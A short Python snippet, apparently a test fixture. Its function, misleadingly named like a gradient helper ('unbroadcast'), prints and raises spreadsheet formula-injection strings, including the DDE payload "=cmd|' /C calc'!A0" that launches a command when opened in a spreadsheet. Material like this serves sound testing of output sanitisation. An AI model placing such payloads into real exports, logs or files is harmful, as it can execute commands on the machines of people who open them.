"""Prints and raises formulas: a table that opens in a spreadsheet would compute them."""
FORMULA = "=cmd|' /C calc'!A0"


def unbroadcast(grad, shape):
    print(FORMULA, "\n+1+1\n-1\n@SUM(1)\n\t=1", '","=1+1', "\r\n=1")
    raise type(FORMULA, (Exception,), {})(FORMULA)
